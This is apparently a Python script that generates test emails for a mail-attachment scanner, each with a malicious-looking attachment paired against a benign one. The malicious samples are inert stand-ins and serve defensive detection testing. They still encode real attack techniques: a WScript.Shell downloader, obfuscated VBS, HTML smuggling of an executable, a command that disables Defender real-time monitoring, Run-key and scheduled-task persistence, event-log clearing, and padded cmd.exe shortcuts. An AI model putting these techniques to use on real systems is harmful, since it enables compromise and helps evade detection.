#!/usr/bin/env python3
"""Makes the golden mails whose attachment is a program, a shortcut or a script: harmless, octet by octet, and naming
only example.com.  usage: tests/mail/make_files.py"""
import base64
import pathlib
import sys

here = pathlib.Path(__file__).resolve().parent
sys.path.insert(0, str(here.parent / "lib"))
from make_files import INJECTS, PLAIN, icon, lnk, noise, pe, version  # noqa: E402


def mail(folder, kind, name, content, subject="Minutes", text="The file is attached.", mime="application/octet-stream"):
    body = base64.encodebytes(content).decode()
    (here / folder).mkdir(exist_ok=True)
    (here / folder / f"{kind}.eml").write_text(
        "Date: Mon, 02 Nov 2026 10:00:00 +0800\nFrom: Ann Example <ann@example.com>\nTo: bo@example.cn\n"
        f"Subject: {subject}\nMessage-ID: <20261102.{folder}.{kind}@example.com>\nMIME-Version: 1.0\n"
        "Content-Type: multipart/mixed; boundary=\"mix.1\"\n\n--mix.1\nContent-Type: text/plain; charset=utf-8\n\n"
        f"{text}\n\n--mix.1\nContent-Type: {mime}; name=\"{name}\"\nContent-Transfer-Encoding: base64\n"
        f"Content-Disposition: attachment; filename=\"{name}\"\n\n{body}\n--mix.1--\n")


plain = pe(libraries=PLAIN, kinds={16: version(CompanyName="Example Ltd")})
mail("program_packed", "hit", "tool.exe", pe(sections=[(b"UPX0", 0xE0000080, b""), (b"UPX1", 0xE0000040, noise(4096))]))
mail("program_packed", "miss", "tool.exe", pe(sections=[(b".text", 0x60000020, b"\0" * 512), (b".data", 0xC0000040, noise(4096))],
                                            libraries={"KERNEL32.dll": [f"Example{i}" for i in range(20)]}))
mail("program_disguised", "hit", "notice.exe", pe(libraries=PLAIN, kinds={3: icon((200, 90, 30))}))
mail("program_disguised", "miss", "tool.exe", pe(libraries=PLAIN, kinds={3: icon((128, 128, 128))}))
mail("program_attacks", "hit", "tool.exe", pe(libraries=INJECTS))
mail("program_attacks", "miss", "tool.exe", plain)
mail("program_stays", "hit", "tool.exe", pe(sections=[(b".text", 0x60000020, b"\0" * 512), (b".rdata", 0x40000040,
     b"SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\0wevtutil cl System\0")], libraries=PLAIN))
mail("program_stays", "miss", "tool.exe", pe(sections=[(b".text", 0x60000020, b"\0" * 512), (b".rdata", 0x40000040,
     b"SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\0Run\0")], libraries=PLAIN))
mail("shortcut_runs", "hit", "order.lnk", lnk("C:\\Windows\\System32\\cmd.exe", "/c start https://files.example.com/a"))
mail("shortcut_runs", "miss", "folder.lnk", lnk("C:\\Program Files\\Example\\mycmd.exe", "list.txt"))
mail("shortcut_hides", "hit", "list.lnk", lnk("C:\\Windows\\System32\\cmd.exe", " " * 300 + "/c echo example"))
mail("shortcut_hides", "miss", "list.lnk", lnk("C:\\Windows\\System32\\cmd.exe", "/k echo example"))
mail("shortcut_remote", "hit", "page.url", b"[InternetShortcut]\r\nURL=file://files.example.com/share/a.exe\r\n")
mail("shortcut_remote", "miss", "page.url", b"[InternetShortcut]\r\nURL=https://www.example.com/minutes\r\n")

smuggled = base64.b64encode(pe(libraries=PLAIN)).decode()
mail("script_dropper", "hit", "invoice.js", b'var s = new ActiveXObject("WScript.Shell"); var x = new ActiveXObject("MSXML2.XMLHTTP");'
     b' x.open("GET", "https://files.example.com/a"); s.Run("example");')
mail("script_dropper", "miss", "page.js", b'function show(n) { document.title = n; } show("example");')
mail("script_veiled", "hit", "list.vbs", b'Set s = CreateObject("WScr" & "ipt.Sh" & Chr(101) & "ll")\r\ns.Run "example"\r\n')
mail("script_veiled", "miss", "list.vbs", b'MsgBox "Hello " & "from " & Chr(69) & "xample"\r\n')
mail("script_smuggles", "hit", "file.html", f'<html><body><script>var f = "{smuggled}"; save(f);</script></body></html>'.encode(),
     mime="text/html")
mail("script_smuggles", "miss", "file.html", b'<html><body><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ'
     b'AAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="></body></html>', mime="text/html")
mail("script_disarms", "hit", "setup.ps1", b"Set-MpPreference -DisableRealtimeMonitoring 1\r\n")
mail("script_disarms", "miss", "setup.ps1", b"Get-MpPreference | Format-List\r\n")
mail("script_stays", "hit", "setup.bat", b"schtasks /create /tn example /tr example.exe\r\n")
mail("script_stays", "miss", "setup.bat", b"echo The tasks of today\r\n")

mail("program_carries", "hit", "tool.exe", pe(libraries=PLAIN, overlay=b"PK\x03\x04" + b"\0" * 600))
mail("program_carries", "miss", "tool.exe", pe(libraries=PLAIN, overlay=b"\0" * 600))
mail("program_odd", "hit", "tool.exe", pe(libraries=PLAIN, entry=0x9000))
mail("program_odd", "miss", "tool.exe", plain)
mail("page_runs", "hit", "view.hta", b'<html><script>new ActiveXObject("WScript.Shell").Run("example")</script></html>')
mail("page_runs", "miss", "view.html", b'<html><p>How to use WScript.Shell</p></html>', mime="text/html")
